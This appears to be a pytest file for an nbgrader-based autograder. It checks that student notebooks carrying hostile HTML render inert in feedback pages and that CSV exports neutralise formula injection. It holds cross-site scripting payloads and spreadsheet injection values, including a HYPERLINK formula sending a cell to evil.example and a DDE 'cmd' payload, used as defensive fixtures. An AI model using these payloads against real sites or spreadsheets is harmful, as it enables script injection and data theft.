"""Student HTML is inert where people look (issue 11 class 5, DESIGN.md rule 10).

A submission whose written answer, extra markdown cell and code outputs carry scripts, on*
handlers, javascript: links, iframes and forms is graded with the real `nbgrader autograde`
and `nbgrader generate_feedback`; its feedback page has no executable script of the
student's but still shows the course's math and plots. The per-item CSV of
`python -m autograder.instructor.reports` has no cell that starts a formula. (The formgrader page of
the same submission: tests/browser/test_formgrader_inert.py.)
"""
import csv
import re
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from autograder.instructor import reports
from autograder.instructor.config import REPO_ROOT
from autograder.testkit.course import Course
from autograder.grading.safe_text import csv_cell, escape_html, escape_markdown
from autograder.testkit.submissions import filled_in

ASSIGNMENT = "01_rnn"
STUDENT = "mallory"
MARK = "PWNED"  # every payload sets document.title to a string starting with this

MARKDOWN_PAYLOAD = f"""

<img src=x onerror="document.title='{MARK}-img'"> <script>document.title='{MARK}-script'</script>
[click me](javascript:document.title='{MARK}-link') <iframe src="javascript:parent.document.title='{MARK}-iframe'"></iframe>
<form action="/api/contents"><button formaction="javascript:document.title='{MARK}-form'">x</button></form>
<object data="javascript:document.title='{MARK}-object'"></object>
<a href="#" onclick="document.title='{MARK}-click'" style="position:fixed;inset:0">overlay</a>
"""

CODE_PAYLOAD = f"""
from IPython.display import HTML, Javascript, Markdown, display
display(HTML('<b onmouseover="document.title=\\'{MARK}-hover\\'">hover</b><img src=x onerror="document.title=\\'{MARK}-html\\'"><script>document.title="{MARK}-html-script"</script>'))
display(Markdown('<img src=x onerror="document.title=\\'{MARK}-md-output\\'">'))
display(Javascript('document.title="{MARK}-js"'))
display({{"image/png": "iVBORw0KGgo="}}, raw=True,
        metadata={{"image/png": {{"width": "1 onerror=document.title='{MARK}-width'"}}}})
display({{"text/html": '<svg onload="document.title=\\'{MARK}-svg\\'"></svg>'}}, raw=True)
"""


def hostile_notebook():
    """01_rnn filled in correctly, with hostile HTML in a written answer, a new markdown
    cell and the outputs of an answer cell; rnn_forward is left blank (a failed item)."""
    nb = filled_in(ASSIGNMENT)
    blank = nbformat.read(REPO_ROOT / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", 4)
    blank_source = {c.metadata.get("nbgrader", {}).get("grade_id"): c.source for c in blank.cells}
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id == "time_series_answer":
            cell.source += MARKDOWN_PAYLOAD
        elif grade_id == "conv_answer_code":
            cell.source += "\n" + CODE_PAYLOAD
        elif grade_id == "rnn_forward_code":
            cell.source = blank_source[grade_id]
        if grade_id == "traverse_code":  # hidden from the grader's view, in stock nbconvert
            cell.metadata["transient"] = {"remove_source": True}
            cell.metadata["jupyter"] = {"source_hidden": True}
            cell.source += f"\n# {MARK}-hidden-code"
    nb.cells.insert(1, nbformat.v4.new_markdown_cell(
        f"My notes $x$ <details open ontoggle=\"document.title='{MARK}-toggle'\">x</details>"
        + MARKDOWN_PAYLOAD))
    return nb


class PageScan(HTMLParser):
    """What could run in a page: inline scripts, script URLs, on* handlers, javascript:
    URLs, frames, plugins and forms; plus the CSP <meta> and the images shown."""

    RUNNABLE_TAGS = {"iframe", "frame", "object", "embed", "form", "base", "applet"}
    # formgrader's own show/hide-student-name buttons (nbgrader's template, not the student)
    NBGRADER_HANDLERS = {"toggle_name(true);", "toggle_name(false);"}

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.inline_scripts, self.script_srcs, self.problems = [], [], []
        self.csp, self.images, self.depth = [], [], 0
        self._in_script = None
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script":
            if attrs.get("src"):
                self.script_srcs.append(attrs["src"])
            self._in_script = ""
        if tag == "meta" and (attrs.get("http-equiv") or "").lower() == "content-security-policy":
            self.csp.append(attrs.get("content", ""))
        if tag == "img":
            self.images.append(attrs.get("src") or "")
        if tag in self.RUNNABLE_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") and value not in self.NBGRADER_HANDLERS:
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in ("href", "src", "action", "formaction", "data") and value and \
                    re.sub(r"\s", "", value).lower().startswith(("javascript:", "vbscript:")):
                self.problems.append(f"<{tag} {name}={value!r}>")

    def handle_data(self, data):
        if self._in_script is not None:
            self._in_script += data

    def handle_endtag(self, tag):
        if tag == "script" and self._in_script is not None:
            self.inline_scripts.append(self._in_script)
            self._in_script = None


def assert_inert(page_html, where):
    scan = PageScan(page_html)
    assert not scan.problems, f"{where}: runnable student markup: {scan.problems[:10]}"
    student_scripts = [s for s in scan.inline_scripts if MARK in s]
    assert not student_scripts, f"{where}: the student's scripts are in the page: {student_scripts}"
    assert scan.csp, f"{where}: no Content-Security-Policy <meta>"
    script_src = next(d for d in scan.csp[0].split(";") if d.strip().startswith("script-src"))
    assert "'unsafe-inline'" not in script_src and "*" not in script_src.split()
    return scan


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    course = Course.create(tmp_path_factory.mktemp("inert") / "course", [ASSIGNMENT])
    course.submit(STUDENT, ASSIGNMENT, hostile_notebook())
    course.autograde(ASSIGNMENT)
    course.generate_feedback(ASSIGNMENT)
    return course


@pytest.mark.nbgrader
def test_the_feedback_page_runs_nothing_of_the_students(graded):
    page = graded.root / "feedback" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.html"
    text = page.read_text()
    # what the student wrote is shown, as text, for the grader to see (all of it)
    assert f"&lt;script&gt;document.title='{MARK}-script'&lt;/script&gt;" in text
    assert f"{MARK}-hidden-code" in text
    assert_inert(text, "feedback")


@pytest.mark.nbgrader
def test_the_feedback_page_still_shows_math_and_plots(graded):
    page = graded.root / "feedback" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.html"
    scan = PageScan(page.read_text())
    # the course's own math is left for MathJax ($W$ in the written answer); MathJax is in
    # the page itself (no script from elsewhere: it typesets offline, tests/browser/
    # test_feedback_offline.py)
    assert "$W$" in page.read_text()
    assert not scan.script_srcs
    assert any("window.MathJax" in s and "inlineMath" in s for s in scan.inline_scripts)
    assert any("MathJax.Hub" in s and len(s) > 50_000 for s in scan.inline_scripts)
    # PNG outputs stay images (the student's display of a PNG)
    assert any(src.startswith("data:image/png;base64,") for src in scan.images)
    # the scores (nbgrader's own feedback markup) are still there
    assert "rnn_forward" in page.read_text()


@pytest.mark.nbgrader
def test_the_feedback_index_names_every_item(graded):
    """Issue 16 item 7: "rnn_step_forward (test cell) (Score: 0 / 2)", not "Test cell"."""
    text = (graded.root / "feedback" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    toc = text[text.index('<div id="toc">'):]
    toc = toc[:toc.index("</div>")]
    entries = re.findall(r'<li><a href="#([\w-]+)"><code>([\w-]+)</code></a> \(([a-z -]+)\)', toc)
    assert entries, toc
    assert all(anchor == name for anchor, name, _ in entries)
    names = {name for _, name, _ in entries}
    assert "rnn_step_forward" in names and "rnn_forward" in names
    assert ">Test cell</a>" not in toc and ">Written response</a>" not in toc


def test_the_feedback_template_is_nbgraders_but_for_the_index():
    """The copied feedback template (autograder/templates/feedback/index.html.j2) differs
    from nbgrader's only in the index lines and in its labels' Japanese (a label reads
    ``{{ '得点' if resources.course_language == 'ja' else "Score" }}``; taken as its
    English, it is nbgrader's): a new nbgrader version shows up here."""
    from autograder.grading.safe_html import TEMPLATES, nbgrader_template_dir

    text = (TEMPLATES / "feedback" / "index.html.j2").read_text()
    bilingual = re.compile(r"""\{\{ '[^']*' if resources\.course_language == 'ja' else "([^"]*)" \}\}""")
    assert len(bilingual.findall(text)) >= 10
    ours = bilingual.sub(r"\1", text).splitlines()
    theirs = (Path(nbgrader_template_dir()) / "feedback" / "index.html.j2").read_text().splitlines()
    ours = ours[next(i for i, line in enumerate(ours) if line.startswith("{%- extends")):]
    assert len(ours) == len(theirs)
    changed = [(a, b) for a, b in zip(ours, theirs) if a != b]
    assert len(changed) == 4
    for a, b in changed:
        label = re.search(r'">([A-Za-z -]+)</a>', b).group(1)
        assert a == b.replace(f'">{label}</a>', '"><code>{{ cell.metadata.nbgrader.grade_id }}'
                              f'</code></a> ({label.lower()})')


def test_the_pages_load_no_script_from_elsewhere():
    """MathJax is inlined (jupyter-server-mathjax) and allowed by hash: the policy names no
    host, the head no script src, and long output lines wrap."""
    from autograder.grading.safe_html import inert_head, mathjax_scripts, policy, script_hash

    head = inert_head()
    scan = PageScan(head)
    assert not scan.script_srcs and len(scan.inline_scripts) == 1 + len(mathjax_scripts())
    script_src = policy().split(";")[0].split()[1:]
    assert all(source.startswith("'") for source in script_src), script_src
    assert all(script_hash(text) in script_src for text in scan.inline_scripts)
    assert "white-space: pre-wrap" in head


@pytest.mark.nbgrader
def test_the_per_item_csv_never_starts_a_formula(graded, monkeypatch):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"see hint")'
    real = reports.misconceptions

    def hints_from_a_hostile_problem(root, assignment, student):
        return {**real(root, assignment, student), "rnn_forward": {"key": "-x", "hint": formula},
                "rnn_step_forward": {"key": "@SUM(A1)", "hint": "+cmd|' /C calc'!A0"}}

    monkeypatch.setattr(reports, "misconceptions", hints_from_a_hostile_problem)
    assert reports.main([ASSIGNMENT, "--root", str(graded.root), "--out", "reports"]) == 0
    out = graded.root / "reports"
    for name in (f"{ASSIGNMENT}-items.csv", "canvas.csv", "moodle.csv"):
        with open(out / name, newline="") as f:
            rows = list(csv.reader(f))
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, row)
    items = (out / f"{ASSIGNMENT}-items.csv").read_text()
    assert "'=HYPERLINK" in items  # shown, as text
    report = (out / f"{ASSIGNMENT}-report.html").read_text()
    assert "=HYPERLINK(&quot;http" in report


def test_escape_markdown_shows_a_hostile_file_name_as_text():
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    for name in ["<img src=x onerror=alert(1)>.ipynb", "[x](javascript:alert(1)).py",
                 "a\n# b\n<script>alert(1)</script>", "*_`x`_* ![i](x) <!-- c -->"]:
        rendered = markdown2html_mistune(escape_markdown(name))
        scan = PageScan(rendered)
        assert not scan.problems and not scan.inline_scripts, (name, rendered)
        assert not re.search(r"<(?!/?p>)", rendered), (name, rendered)  # only the paragraph
    assert escape_html('<a href="x">') == "&lt;a href=&quot;x&quot;&gt;"


def test_csv_cell_prefixes_what_a_spreadsheet_would_evaluate():
    for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]:
        assert csv_cell(text) == "'" + text
    assert csv_cell("alice") == "alice" and csv_cell(3) == 3 and csv_cell("") == ""


def _render(nb, template):
    """A notebook through the exporter as nbgrader_config.py configures it."""
    import os

    from nbconvert import HTMLExporter
    from traitlets.config import Config

    from autograder.grading import safe_html

    c = Config()
    safe_html.configure(c)
    c.HTMLExporter.template_name = template
    c.HTMLExporter.extra_template_paths = [os.path.join(  # as generate_feedback adds it
        safe_html.nbgrader_template_dir(), "..", "static", "node_modules", "bootstrap", "dist", "css")]
    resources = {"nbgrader": {"notebook": "n", "score": 0, "max_score": 1, "late_penalty": 0},
                 "base_url": "", "notebook_id": "n", "submission_id": "s", "index": 0,
                 "total": 1, "assignment_id": "a", "student": "st", "notebook_path": "n"}
    return HTMLExporter(config=c).from_notebook_node(nb, resources=resources)[0]


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_every_kind_of_student_content_renders_inert(template):
    """Without grading: raw cells, attachments, SVG, widgets, JavaScript, output metadata
    and notebook metadata, through both of nbgrader's templates."""
    v4 = nbformat.v4
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'{MARK}\'"/>'
    nb = v4.new_notebook(metadata={"widgets": {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "x": f"</script><script>document.title='{MARK}'</script>"}}})
    raw = v4.new_raw_cell(f"<script>document.title='{MARK}-raw'</script>")
    raw.metadata["raw_mimetype"] = "text/html"
    md = v4.new_markdown_cell("![a](attachment:a.svg) ![b](attachment:b.png) $x^2$")
    md.attachments = {"a.svg": {"image/svg+xml": svg},
                      "b.png": {"image/png": f'AAAA" onerror="document.title=\'{MARK}\''}}
    outputs = [
        v4.new_output("display_data", data={"image/svg+xml": svg}),
        v4.new_output("display_data", data={"application/javascript": f"document.title='{MARK}'"}),
        v4.new_output("display_data", data={"text/html": f"<p onclick=\"x\">{MARK}</p>"},
                      metadata={"text/html": {"isolated": True}}),
        v4.new_output("display_data", data={"image/png": "iVBORw0KGgo="},
                      metadata={"image/png": {"height": f"1 onerror=document.title='{MARK}'"},
                                "filenames": {"image/png": "javascript:x"}}),
        v4.new_output("display_data", data={
            "application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{MARK}"},
            "text/plain": "widget"}),
    ]
    code = v4.new_code_cell("x", outputs=outputs, execution_count=1)
    nb.cells = [raw, md, code]
    page = _render(nb, template)
    scan = assert_inert(page, template)
    assert not [s for s in scan.images if s and not s.startswith("data:image/png;base64,")]
    assert "$x^2$" in page



@pytest.mark.nbgrader
def test_nbgrader_export_writes_no_formula_and_keeps_the_columns(graded):
    """A roster name from an LMS where students edit their own profile."""
    graded.nbgrader("db", "student", "add", "eve", "--first-name==HYPERLINK(\"http://x\")",
                    "--last-name=Smith, Jr.", "--email=@evil")
    graded.export("grades.csv")
    with open(graded.root / "grades.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    eve = next(r for r in rows if r["student_id"] == "eve")
    assert eve["last_name"] == "Smith, Jr." and eve["score"] == "0.0"
    assert eve["first_name"] == "'=HYPERLINK(\"http://x\")" and eve["email"] == "'@evil"
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values()), row
    mallory = next(r for r in rows if r["student_id"] == STUDENT)
    assert float(mallory["score"]) > 0
